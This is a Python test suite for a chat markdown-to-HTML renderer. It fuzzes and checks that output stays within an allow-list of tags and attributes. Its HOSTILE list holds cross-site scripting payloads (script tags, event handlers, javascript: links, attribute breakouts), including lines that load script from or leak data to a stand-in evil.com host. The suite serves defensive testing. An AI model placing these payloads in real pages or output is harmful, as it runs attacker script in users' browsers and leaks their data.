"""Markdown of a model becomes the HTML that it should, and never any other, wherever it is cut."""

import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chat.markdown.code import CLASSES
from chat.markdown.html import LONGEST, html_of, render, sanitised
from tools.text import clean

FACING = {"p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "table", "td", "th"}
OTHERS = {"a", "br", "button", "code", "div", "em", "hr", "pre", "s", "span", "strong", "tbody", "thead", "tr"}
ATTRIBUTES = {
    ("a", "href"): r"(https?://|mailto:).+",
    ("a", "rel"): "noopener noreferrer nofollow",
    ("a", "target"): "_blank",
    ("button", "class"): "copy",
    ("button", "type"): "button",
    ("code", "class"): "highlight",
    ("div", "class"): "code|code-head|table-wrap",
    ("div", "tabindex"): "0",
    ("ol", "start"): r"\d+",
    ("pre", "tabindex"): "0",
    ("span", "class"): "|".join(["host", "image", *CLASSES]),
    ("span", "dir"): "ltr",
    ("td", "class"): "align-center|align-right",
    ("th", "class"): "align-center|align-right",
    **{(tag, "dir"): "auto" for tag in FACING},
}
HOSTILE = [
    "<script>alert(1)</script> <SCRIPT SRC=//evil.com/x.js> <scr<script>ipt>alert(1)</scr</script>ipt>",
    '<div id="chat" hx-get="/admin/" hx-trigger="load" ws-connect="/ws/x" data-x="1">x</div><form name="x"><input>',
    "<img src=x onerror=alert(1)><svg onload=alert(1)><svg><style><img src=x onerror=alert(1)></style></svg><math>",
    "<a href='javascript:alert(1)' style='top:0'>x</a> <p onclick=alert(1)> <base href=//evil.com> <a href=/x>",
    "a <!-- b --> <![CDATA[ c ]]> <?php d ?> <!DOCTYPE e> </p></div></article> &lt;script&gt; &#60;b&#x3e; &amp;lt;",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert%281%29) [c](&#106;avascript&colon;alert(1)) [d](java&Tab;script:x)",
    "[e](\x01javascript:alert(1)) [f](<java\tscript:alert(1)>) [g](data:text/html;base64,PHNjcmlwdD4=) [h](vbscript:x)",
    '[i](https://evil.com/"onmouseover="alert(1)) [j](https://evil.com "t\\" onclick=x") [k](//evil.com) [l](/admin/)',
    '<javascript:alert(1)> <data:text/html,x> <https://a.com"onclick=x> <vbscript:x> https://a.com/"><script>x',
    '![a](https://evil.com/?d=secret) ![b](javascript:x) !["onload=x](x) [![c](https://i.com/x)](https://evil.com)',
    "[`<script>`](https://evil.com) [**a `b](https://x.com)` c**](https://evil.com) `<b>` ``` `<i>` ```",
    "[x][1] ![y][1] [1]\n\n[1]: javascript:alert(1)\n[2]: https://evil.com '\"><script>'\n[z][2]",
    '```"><script>alert(1)</script>\n</code></pre><script>\n```\n~~~ <b onclick=x>\n<i>\n~~~\n\n    <script>\n\t<b>',
    '| <b> | [a](javascript:x) |\n|:-:|-" onclick=x|\n\n| <b> | `<i>` |\n|--:|:-:|\n| <script> | ![](x) |',
    "# <h1 id=chat> {#chat .x onclick=y}\n\n> <script>\n\n1. <b>\n2) x\n   <script>\n\n- [ ] <input>\n\n<b>\n===",
    "\u202e[bank](https://evil.com)\u202d ![\u202ea\u2066](https://evil.com) \x00<\x00script> \ud800<b> \u2028<i>",
    "```python\nx = '<script>' # </code></span>\n```\n```html\n<script>alert(1)</script>\n```\n```php\n<?php x ?>\n```",
]


class Reader(HTMLParser):
    """Reads HTML as a browser would and fails on whatever may not be in it. Keeps the text and the hosts linked to."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()
        assert not self.open, f"never closed: {self.open}"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in FACING | OTHERS, tag
        for name, value in attrs:
            assert re.fullmatch(ATTRIBUTES.get((tag, name), "(?!)"), value or ""), (tag, name, value)
        if tag == "a":
            assert {name for name, _ in attrs} == {"href", "rel", "target"}
            address = urlsplit(dict(attrs)["href"] or "")
            assert address.scheme == "mailto" or (address.hostname and address.username is None)
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        pytest.fail(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        pytest.fail(f"an instruction: {data}")

    def unknown_decl(self, data: str) -> None:
        pytest.fail(f"a section: {data}")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless_wherever_it_is_cut(text: str) -> None:
    for end in range(len(text) + 1):
        Reader(render(text[:end]))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless_wherever_it_begins(text: str) -> None:
    for start in range(len(text)):
        Reader(render(text[start:]))


PIECES = [
    *"<>[]()!`*_~|#-=:\\\"'&;/\n \t\r@a\x00\ud800\u202eé",
    *(
        "\n\n",
        "    ",
        "\n> ",
        "\n- ",
        "\n1. ",
        "\n```",
        "html\n",
        "|-|",
        "\n| a | b |\n|:-:|--:|\n| ",
        "![",
        "](",
        "]: ",
    ),
    *("<script", "<!--", "-->", "onclick=", "&#60;", "&lt;", "javascript:", "data:", "https://", "evil.com"),
]


@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
@settings(max_examples=400, deadline=None)
def test_any_mixture_of_marks_is_harmless(text: str) -> None:
    Reader(render(text))


@given(st.text(st.characters(exclude_categories=()), max_size=80))
@settings(deadline=None)
def test_any_text_at_all_is_harmless(text: str) -> None:
    Reader(render(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_the_last_step_alone_makes_hostile_html_harmless(text: str) -> None:
    html = sanitised(clean(text))
    assert "<script" not in html
    assert not re.search(r"<[^>]*\s(on\w+|style|id|name|hx-\w+|ws-\w+|data-\w+|src|action)\s*=", html)
    assert not re.search(r"href=.(?!https?://|mailto:)", html)
    assert not re.search(r"<(svg|math|img|form|input|base|style)", html)


def test_html_is_shown_as_the_text_that_it_is() -> None:
    assert Reader(render(HOSTILE[1])).text == HOSTILE[1] + "\n"
    assert render("a<br>b & &lt;") == '<p dir="auto">a&lt;br&gt;b &amp; &lt;</p>\n'


# Shapes


def test_code_has_its_language_a_button_to_copy_it_and_can_be_scrolled_to() -> None:
    assert render("```python title=x\nx = 1\n```") == (
        '<div class="code"><div class="code-head"><span>python</span>'
        '<button type="button" class="copy">Copy</button></div>'
        '<pre tabindex="0"><code class="highlight">x <span class="operator">=</span> <span class="number">1</span>'
        "</code></pre></div>\n"
    )


@pytest.mark.parametrize("text", ["```\n<b>\n\n  c\n```", "    <b>\n\n      c", "~~~\n<b>\n\n  c"])
def test_code_without_a_language_is_text(text: str) -> None:
    assert render(text) == (
        '<div class="code"><div class="code-head"><span>text</span>'
        '<button type="button" class="copy">Copy</button></div>'
        '<pre tabindex="0"><code class="highlight">&lt;b&gt;\n\n  c</code></pre></div>\n'
    )


def test_a_table_scrolls_by_itself_and_its_columns_have_classes_for_their_sides() -> None:
    assert render("a|b|c|d\n-|:-|:-:|-:\n1|2|3|4").replace("\n", "") == (
        '<div class="table-wrap" tabindex="0"><table dir="auto"><thead><tr>'
        '<th dir="auto">a</th><th dir="auto">b</th>'
        '<th class="align-center" dir="auto">c</th><th class="align-right" dir="auto">d</th>'
        "</tr></thead><tbody><tr>"
        '<td dir="auto">1</td><td dir="auto">2</td>'
        '<td class="align-center" dir="auto">3</td><td class="align-right" dir="auto">4</td>'
        "</tr></tbody></table></div>"
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![a *cat*](https://example.com/cat.png?d=1)", "[image: a cat, example.com]"),
        ("![](https://example.com/cat.png)", "[image: example.com]"),
        ("![a cat](data:image/png;base64,AAAA)", "[image: a cat]"),
        ("![](/cat.png)", "[image]"),
        ("![a \u202ecat](https://example.com)", "[image: a cat, example.com]"),
    ],
)
def test_an_image_is_its_words_and_its_host(text: str, shown: str) -> None:
    assert render(text) == f'<p dir="auto"><span class="image" dir="ltr">{shown}</span></p>\n'


def test_each_block_finds_its_own_direction() -> None:
    html = render("# a\n\n> b\n\n- c\n\n1. d")
    assert re.findall(r'<(\w+) dir="auto"', html) == ["h1", "blockquote", "p", "ul", "li", "ol", "li"]


def test_ordinary_marks_are_what_they_are_in_commonmark() -> None:
    assert render("**a** *b* ~~c~~ `d`  \ne\\*\nf\n\n3. g\n4. h\n\n---") == (
        '<p dir="auto"><strong>a</strong> <em>b</em> <s>c</s> <code>d</code><br>\ne*\nf</p>\n'
        '<ol start="3" dir="auto">\n<li dir="auto">g</li>\n<li dir="auto">h</li>\n</ol>\n<hr>\n'
    )


# Bounds


@pytest.mark.parametrize(
    "text",
    [
        *(
            mark * 10_000
            for mark in (">", "[", "*", "_", "`", "<", "\\", "&", "~", "|", "#", "(", "![", "- ", "1. ", "> ")
        ),
        *(mark * 10_000 for mark in ("[a](", "[a](b", '[a](b "', "](", "<a ", "*a _b ", "**a", "`a", "<http:", "[]")),
        "![" * 2_000 + "a" + "](b)" * 2_000,
        "".join("  " * depth + "- a\n" for depth in range(300)),
        "".join("> " * depth + "a\n" for depth in range(300)),
        "a|" * 5_000 + "\n" + "-|" * 5_000,
        "[a]: b\n" * 5_000 + "[a] " * 5_000,
        "https://" * 5_000,
        "https://a.b/(" * 5_000,
        "> a\n" + "b\n" * 10_000,
        "a" * 200_000,
    ],
    ids=lambda text: text[:8],
)
def test_text_made_to_be_slow_is_not(text: str) -> None:
    start = time.process_time()
    Reader(render(text))
    assert time.process_time() - start < 10


@pytest.mark.parametrize("text", [">" * 50 + " word", "- " * 50 + "word", "> - " * 30 + "word\n\n    more"])
def test_what_is_nested_too_deep_is_shown_as_it_stands(text: str) -> None:
    assert "word" in Reader(render(f"{text}\n\n# After")).text
    assert "<h1" in render(f"{text}\n\n# After")


def test_a_table_of_empty_cells_is_not_made() -> None:
    text = "|a" * 200 + "\n" + "|-" * 200 + "\n" + "|\n" * 500
    assert len(render(text)) < 5 * len(text)
    assert "<table" in render("|a" * 50 + "\n" + "|-" * 50 + "\n" + "|b|\n" * 5)


def test_a_text_of_endless_length_is_shown_as_it_stands() -> None:
    assert render("<b>" * LONGEST).startswith("<pre><code>&lt;b&gt;&lt;b&gt;")


def test_a_fault_while_reading_shows_the_text_as_it_stands() -> None:
    def broken(text: str) -> str:
        raise IndexError(text)

    assert html_of("<b>", broken) == "<pre><code>&lt;b&gt;</code></pre>\n"
